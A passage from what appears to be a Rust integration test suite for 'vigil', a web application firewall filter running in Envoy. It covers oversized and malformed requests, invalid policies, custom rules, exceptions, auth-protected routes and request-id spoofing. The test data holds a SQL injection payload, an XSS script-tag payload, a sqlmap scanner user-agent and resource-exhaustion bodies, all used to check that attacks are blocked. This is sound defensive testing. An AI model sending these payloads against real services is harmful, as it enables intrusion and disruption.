            "deep XML",
            RawRequest::post("/upload")
                .header("Content-Type", "application/xml")
                .body(format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000))),
            &[200, 403],
        ),
        (
            "1 MiB JSON body",
            RawRequest::post("/comments").json(&format!(
                r#"{{"text":"{}"}}"#,
                "lorem ipsum ".repeat(87_382)
            )),
            &[200],
        ),
        (
            "1 MiB multipart body without a closing boundary",
            RawRequest::post("/upload")
                .header("Content-Type", "multipart/form-data; boundary=b")
                .body(format!(
                    "--b\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n{}",
                    "x".repeat(1 << 20)
                )),
            &[200, 403],
        ),
        (
            "500 query parameters",
            RawRequest::get(format!("/search?{many_params}")),
            &[200, 403],
        ),
        ("100 headers", many_headers, &[200, 403]),
        (
            "many percent signs",
            RawRequest::get(format!("/search?q={}", "%25".repeat(5_000))),
            &[200, 403],
        ),
        (
            "broken multipart boundary",
            RawRequest::post("/upload")
                .header("Content-Type", "multipart/form-data; boundary=")
                .body("--\r\n\r\n--"),
            &[200, 403],
        ),
        (
            "JSON content type with a binary body",
            RawRequest::post("/comments")
                .header("Content-Type", "application/json")
                .body((0..=255u8).cycle().take(4096).collect::<Vec<u8>>()),
            &[200, 403],
        ),
        (
            "empty JSON body",
            RawRequest::post("/comments").json(""),
            &[200],
        ),
    ];
    let mut failures = Vec::new();
    // Requests the filter decided on: blocked, or passed to the upstream (Envoy's codec may
    // refuse some before any filter runs).
    let mut decided = 0u64;
    for (name, req, allowed) in &cases {
        match gw.envoy.send(req) {
            Ok(resp) if allowed.contains(&resp.status) => {
                println!("{name}: {}", resp.status);
                if resp.status == 403 || resp.header("x-upstream-request-id").is_some() {
                    decided += 1;
                }
                if resp.status == 403 {
                    if let Err(e) = check_blocked(&resp) {
                        failures.push(format!("- {name}: bad block response: {e}: {resp:?}"));
                    }
                }
            }
            Ok(resp) => failures.push(format!("- {name}: status not in {allowed:?}: {resp:?}")),
            Err(e) => failures.push(format!("- {name}: transport error {e}")),
        }
        if !gw.envoy.is_alive() {
            failures.push(format!("- {name}: Envoy died"));
            break;
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));

    // Every request went through the filter, and it still works.
    gw.wait_for_decisions(decided);
    assert!(
        decided >= cases.len() as u64 - 2,
        "only {decided} requests reached the filter"
    );
    assert_upstream(&gw.send(&RawRequest::get("/users/1")), 200);
    assert_blocked(&gw.send(&RawRequest::get(format!("/search?q={SQLI_QUOTE}"))));
    gw.assert_healthy(v8_created);
}

// ---------------------------------------------------------------------------------------
// 7. Invalid policies
// ---------------------------------------------------------------------------------------

/// Starts Envoy with `policy`, expects it to refuse to start, and returns the
/// `vigil: invalid policy:` log line.
fn refused_policy(policy: &str) -> String {
    let api = DemoApi::start();
    let err = match Envoy::start(EnvoyConfig::gateway(api.port()).policy_json(policy)) {
        Ok(envoy) => panic!(
            "Envoy started with policy {policy}; log:\n{}",
            tail(&envoy.log(), 20)
        ),
        Err(e) => e,
    };
    assert!(
        err.status.is_some_and(|s| !s.success()),
        "Envoy did not exit with an error for policy {policy}: {err}"
    );
    match err
        .log
        .lines()
        .find(|l| l.contains("vigil: invalid policy:"))
    {
        Some(line) => line.to_string(),
        None => panic!("no `vigil: invalid policy:` line for policy {policy}: {err}"),
    }
}

#[test]
fn invalid_policies_keep_envoy_from_starting() {
    let policies = [
        r#"{"custom_rules":[{"id":"bad-re","targets":["query"],"pattern":"(unclosed"}]}"#,
        r#"{"mode": "#,
        r#"{"mode":"monitor","bogus_field":1}"#,
        r#"{"mode":"audit"}"#,
    ];
    // Each refused start takes most of a second (the module is compiled first): overlap them.
    let lines: Vec<String> = std::thread::scope(|s| {
        let handles: Vec<_> = policies
            .iter()
            .map(|p| s.spawn(|| refused_policy(p)))
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().unwrap_or_else(|e| std::panic::resume_unwind(e)))
            .collect()
    });
    let [bad_re, truncated, unknown, bad_mode] = &lines[..] else {
        unreachable!()
    };
    assert!(bad_re.contains("rule `bad-re`"), "{bad_re}");
    assert!(bad_re.contains("custom_rules[0].pattern"), "{bad_re}");
    assert!(truncated.contains("vigil: invalid policy:"), "{truncated}");
    assert!(unknown.contains("bogus_field"), "{unknown}");
    assert!(bad_mode.contains("mode"), "{bad_mode}");
}

// ---------------------------------------------------------------------------------------
// 8. Policy features
// ---------------------------------------------------------------------------------------

#[test]
fn custom_rule_blocks_matching_requests() {
    let gw = Gateway::with_policy(
        r#"{"custom_rules":[{"id":"no-debug","targets":["query_names"],"equals":"debug"}]}"#,
    );
    check_cases(
        &gw,
        vec![
            (
                "debug parameter",
                RawRequest::get("/users/1?debug=1"),
                blocked("no-debug", "custom"),
            ),
            (
                "debug parameter, other case and value",
                RawRequest::get("/orders?DEBUG=true"),
                blocked("no-debug", "custom"),
            ),
            (
                "other parameter",
                RawRequest::get("/users/1?verbose=1"),
                Expect::Upstream(200),
            ),
            (
                "debug as a value, not a name",
                RawRequest::get("/search?q=debug"),
                Expect::Upstream(200),
            ),
            (
                "built-in rules still apply",
                RawRequest::get(format!("/search?q={SQLI_QUOTE}")),
                blocked("sqli-quote-boolean", "sqli"),
            ),
        ],
    );
}

#[test]
fn disabled_pack_no_longer_blocks() {
    let gw = Gateway::with_policy(r#"{"version":"t1","packs":{"scanner":{"enabled":false}}}"#);
    assert!(
        gw.envoy.log().contains("policy `t1` loaded"),
        "{}",
        tail(&gw.envoy.log(), 10)
    );
    check_cases(
        &gw,
        vec![
            (
                "scanner user-agent",
                RawRequest::get("/users/1").header("User-Agent", "sqlmap/1.7"),
                Expect::Upstream(200),
            ),
            (
                "other packs still block",
                RawRequest::get(format!("/search?q={SQLI_QUOTE}")),
                blocked("sqli-quote-boolean", "sqli"),
            ),
        ],
    );
    assert_eq!(gw.counter(&findings_counter("scanner")), 0);
}

#[test]
fn exception_allows_one_parameter_on_one_route() {
    let gw =
        Gateway::with_policy(r#"{"exceptions":[{"rule":"sqli","route":"/search","param":"q"}]}"#);
    let payload = "1%27%20OR%20%271%27%3D%271";
    check_cases(
        &gw,
        vec![
            (
                "excepted parameter on the excepted route",
                RawRequest::get(format!("/search?q={payload}")),
                Expect::Upstream(200),
            ),
            (
                "same payload on another route",
                RawRequest::get(format!("/orders?q={payload}")),
                blocked("sqli-", "sqli"),
            ),
            (
                "same payload in another parameter",
                RawRequest::get(format!("/search?name={payload}")),
                blocked("sqli-", "sqli"),
            ),
            (
                "other categories in the excepted parameter",
                RawRequest::get("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
                blocked("xss-script-tag", "xss"),
            ),
        ],
    );
}

#[test]
fn protected_route_requires_credentials() {
    let gw = Gateway::with_policy(r#"{"routes":[{"path":"/users/{id}","require_auth":true}]}"#);
    check_cases(
        &gw,
        vec![
            (
                "no credentials",
                RawRequest::get("/users/1"),
                blocked("auth-missing", "auth"),
            ),
            (
                "no credentials, PUT",
                RawRequest::put("/users/2").json(r#"{"name":"Bob"}"#),
                blocked("auth-missing", "auth"),
            ),
            (
                "bearer token",
                RawRequest::get("/users/1").header("Authorization", "Bearer abc"),
                Expect::Upstream(200),
            ),
            (
                "api key",
                RawRequest::get("/users/1").header("x-api-key", "k"),
                Expect::Upstream(200),
            ),
            (
                "unprotected route",
                RawRequest::get("/users"),
                Expect::Upstream(200),
            ),
            (
                "unprotected nested route (no such order)",
                RawRequest::get("/orders/1"),
                Expect::Upstream(404),
            ),
        ],
    );
}

// ---------------------------------------------------------------------------------------
// 9. Request ids
// ---------------------------------------------------------------------------------------

#[test]
fn client_supplied_request_id_is_overwritten() {
    let gw = Gateway::start();
    let resp = gw.send(&RawRequest::get("/users/1").header("x-vigil-request-id", "spoofed"));
    assert_upstream(&resp, 200);
    let seen = resp.header_all("x-upstream-request-id");
    assert!(
        !seen.iter().any(|v| v.contains("spoofed")),
        "the upstream saw the client's id: {resp:?}"
    );

    // Repeated headers are replaced as a whole, not appended to.
    let resp = gw.send(
        &RawRequest::get("/users/1")
            .header("x-vigil-request-id", "spoofed")
            .header("X-Vigil-Request-Id", "spoofed-too"),
    );
    assert_upstream(&resp, 200);
    assert!(
        !resp
            .header("x-upstream-request-id")
            .unwrap_or_default()
            .contains("spoofed"),
        "{resp:?}"
    );

    // A blocked request answers with a fresh id too, the same in header and body.
    let resp = gw.send(
        &RawRequest::get(format!("/search?q={SQLI_QUOTE}")).header("x-vigil-request-id", "spoofed"),
    );
    assert_blocked(&resp);
    assert_ne!(
        resp.header("x-vigil-request-id"),
        Some("spoofed"),
        "{resp:?}"
    );

    // Ids differ between requests.
    let a = gw.send(&RawRequest::get("/health"));
    let b = gw.send(&RawRequest::get("/health"));
    assert_upstream(&a, 200);
    assert_upstream(&b, 200);
    assert_ne!(
        a.header("x-upstream-request-id"),
        b.header("x-upstream-request-id")
    );
}
